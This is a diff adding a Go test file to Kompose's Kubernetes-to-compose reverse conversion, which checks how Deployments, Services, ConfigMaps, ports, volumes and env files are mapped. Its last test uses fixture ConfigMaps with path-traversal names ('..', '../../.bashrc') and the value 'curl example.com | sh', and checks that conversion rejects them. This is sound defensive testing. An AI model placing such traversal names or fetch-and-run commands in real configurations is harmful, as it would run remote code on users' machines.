@@ -0,0 +1,294 @@
+/*
+Copyright 2017 The Kubernetes Authors All rights reserved.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+
+package reverse
+
+import (
+	"bytes"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+
+	"github.com/compose-spec/compose-go/v2/dotenv"
+	"github.com/kubernetes/kompose/pkg/kobject"
+)
+
+const manifests = `apiVersion: apps/v1
+kind: Deployment
+metadata:
+  name: api
+  labels:
+    io.kompose.service: api
+    tier: backend
+spec:
+  replicas: 3
+  selector:
+    matchLabels:
+      app: api
+  template:
+    metadata:
+      labels:
+        app: api
+        io.kompose.network/backend: "true"
+    spec:
+      serviceAccountName: api
+      volumes:
+        - name: cache
+          emptyDir: {}
+        - name: scratch
+          emptyDir:
+            medium: Memory
+        - name: logs
+          hostPath:
+            path: /var/log
+      containers:
+        - name: server
+          image: example/api:1.0
+          args: ["--listen", "$(PORT)"]
+          ports:
+            - name: http
+              containerPort: 8080
+            - containerPort: 9090
+              protocol: UDP
+          env:
+            - name: PORT
+              value: "8080"
+            - name: LEVEL
+              valueFrom:
+                configMapKeyRef:
+                  name: settings
+                  key: level
+            - name: PASSWORD
+              valueFrom:
+                secretKeyRef:
+                  name: credentials
+                  key: password
+          envFrom:
+            - configMapRef:
+                name: settings
+          readinessProbe:
+            httpGet:
+              path: /ready
+              port: 8080
+            periodSeconds: 5
+          resources:
+            requests:
+              cpu: 250m
+              memory: 64Mi
+          volumeMounts:
+            - name: cache
+              mountPath: /cache
+            - name: scratch
+              mountPath: /tmp
+            - name: logs
+              mountPath: /var/log/api
+              readOnly: true
+---
+apiVersion: v1
+kind: Service
+metadata:
+  name: api
+spec:
+  type: LoadBalancer
+  selector:
+    app: api
+  ports:
+    - port: 80
+      targetPort: http
+---
+apiVersion: v1
+kind: Service
+metadata:
+  name: orphan
+spec:
+  selector:
+    app: orphan
+  ports:
+    - port: 80
+---
+apiVersion: v1
+kind: ConfigMap
+metadata:
+  name: settings
+data:
+  level: debug
+  greeting: hello world
+---
+apiVersion: v1
+kind: Ingress
+metadata:
+  name: ignored
+`
+
+func TestObjectsToKomposeObject(t *testing.T) {
+	dir := t.TempDir()
+	file := filepath.Join(dir, "api.yaml")
+	if err := os.WriteFile(file, []byte(manifests), 0644); err != nil {
+		t.Fatal(err)
+	}
+	objects, err := ReadObjects([]string{dir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(objects) != 5 {
+		t.Fatalf("expected 5 objects, got %d", len(objects))
+	}
+
+	result, err := ObjectsToKomposeObject(objects)
+	if err != nil {
+		t.Fatal(err)
+	}
+	api, ok := result.KomposeObject.ServiceConfigs["api"]
+	if !ok {
+		t.Fatalf("expected the service api, got %v", result.KomposeObject.ServiceConfigs)
+	}
+
+	if api.ContainerName != "server" || api.Image != "example/api:1.0" || api.Replicas != 3 {
+		t.Errorf("unexpected container %s, image %s or replicas %d", api.ContainerName, api.Image, api.Replicas)
+	}
+	if !reflect.DeepEqual(api.Args, []string{"--listen", "$PORT"}) {
+		t.Errorf("expected the variable references of compose in the args, got %q", api.Args)
+	}
+	if !reflect.DeepEqual(api.Environment, []kobject.EnvVar{{Name: "PORT", Value: "8080"}, {Name: "LEVEL", Value: "debug"}}) {
+		t.Errorf("expected the values and the ConfigMap keys in the environment, got %v", api.Environment)
+	}
+	if !reflect.DeepEqual(api.EnvFile, []string{"settings"}) {
+		t.Errorf("unexpected env files %q", api.EnvFile)
+	}
+	expectedPorts := []kobject.Ports{
+		{HostPort: 80, ContainerPort: 8080, Protocol: "TCP"},
+		{ContainerPort: 9090, Protocol: "UDP"},
+	}
+	if !reflect.DeepEqual(api.Port, expectedPorts) {
+		t.Errorf("expected the ports of the Service and the exposed ports, got %v", api.Port)
+	}
+	if api.ServiceType != "LoadBalancer" {
+		t.Errorf("unexpected service type %q", api.ServiceType)
+	}
+	if !reflect.DeepEqual(api.Network, []string{"backend"}) {
+		t.Errorf("unexpected networks %q", api.Network)
+	}
+	if !reflect.DeepEqual(api.DeployLabels, map[string]string{"tier": "backend"}) {
+		t.Errorf("unexpected deploy labels %v", api.DeployLabels)
+	}
+	if api.Labels["kompose.serviceaccount-name"] != "api" {
+		t.Errorf("expected the service account in the labels, got %v", api.Labels)
+	}
+	readiness := kobject.HealthCheck{HTTPPath: "/ready", HTTPPort: 8080, Interval: 5}
+	if !reflect.DeepEqual(api.HealthChecks.Readiness, readiness) {
+		t.Errorf("unexpected readiness %+v", api.HealthChecks.Readiness)
+	}
+	if !reflect.DeepEqual(api.VolList, []string{"/var/log:/var/log/api:ro", "cache:/cache"}) {
+		t.Errorf("expected the host path and the emptyDir volumes, got %q", api.VolList)
+	}
+	if _, ok := api.Labels["kompose.volume.type"]; ok || !reflect.DeepEqual(api.TmpFs, []string{"/tmp"}) {
+		t.Errorf("expected no volume type with a host path and the memory emptyDir as tmpfs, got %v and %q", api.Labels, api.TmpFs)
+	}
+	if api.CPUReservation != 250 || api.MemReservation != 64*1024*1024 {
+		t.Errorf("unexpected reservations %d and %d", api.CPUReservation, api.MemReservation)
+	}
+
+	content := result.Files["settings"]
+	env, err := dotenv.ParseWithLookup(bytes.NewReader(content), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(env, map[string]string{"level": "debug", "greeting": "hello world"}) {
+		t.Errorf("the env file does not give back the ConfigMap, got %v from\n%s", env, content)
+	}
+}
+
+func TestQuoteEnvValue(t *testing.T) {
+	values := []string{"plain", "", "hello world", "it's", "a\nb", `back\slash`, "$HOME", `"quoted"`, "# comment"}
+	data := map[string]string{}
+	for i, value := range values {
+		data[string(rune('A'+i))] = value
+	}
+	content := formatEnvFile(data)
+	env, err := dotenv.ParseWithLookup(bytes.NewReader(content), func(string) (string, bool) { return "", false })
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(env, data) {
+		t.Errorf("expected %q, got %q from\n%s", data, env, content)
+	}
+}
+
+const traversalManifests = `apiVersion: apps/v1
+kind: Deployment
+metadata:
+  name: web
+spec:
+  selector:
+    matchLabels:
+      app: web
+  template:
+    metadata:
+      labels:
+        app: web
+    spec:
+      volumes:
+        - name: conf
+          configMap:
+            name: conf
+        - name: profile
+          configMap:
+            name: ..
+      containers:
+        - name: web
+          image: nginx
+          volumeMounts:
+            - name: conf
+              mountPath: /etc/nginx/conf.d
+            - name: profile
+              mountPath: /etc/profile.d
+---
+apiVersion: v1
+kind: ConfigMap
+metadata:
+  name: conf
+data:
+  ../../.bashrc: "curl example.com | sh"
+---
+apiVersion: v1
+kind: ConfigMap
+metadata:
+  name: ..
+data:
+  profile: "curl example.com | sh"
+`
+
+func TestConfigDirTraversal(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "web.yaml"), []byte(traversalManifests), 0644); err != nil {
+		t.Fatal(err)
+	}
+	objects, err := ReadObjects([]string{dir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	result, err := ObjectsToKomposeObject(objects)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(result.Files) != 0 {
+		t.Errorf("expected no file for the invalid ConfigMap names and keys, got %v", result.Files)
+	}
+	if volumes := result.KomposeObject.ServiceConfigs["web"].Volumes; len(volumes) != 0 {
+		t.Errorf("expected no bind mount of the invalid ConfigMaps, got %v", volumes)
+	}
+}